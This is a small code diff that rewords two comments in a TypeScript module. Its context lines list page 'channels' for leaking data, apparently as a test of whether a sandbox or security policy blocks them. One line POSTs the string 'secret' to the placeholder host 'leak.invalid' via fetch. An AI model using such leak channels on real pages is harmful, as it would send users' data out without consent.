@@ -4,7 +4,7 @@
  */
 const to = 'https://leak.invalid'
 
-/** Adds an element for the attempt; the answer takes it away again. */
+/** Adds an element for the attempt; returns how to remove it. */
 function place(element: HTMLElement): () => void {
   element.hidden = true
   document.body.append(element)
@@ -21,7 +21,7 @@ const link = (rel: string, as?: string): (() => void) => {
 
 type Attempt = () => unknown
 
-/** Each attempt may throw, reject, or answer how to clear up after it. */
+/** Each attempt may throw, reject, or return how to clear up after it. */
 export const pageChannels = {
   fetch: () => fetch(`${to}/fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' }),
   xhr: () => {
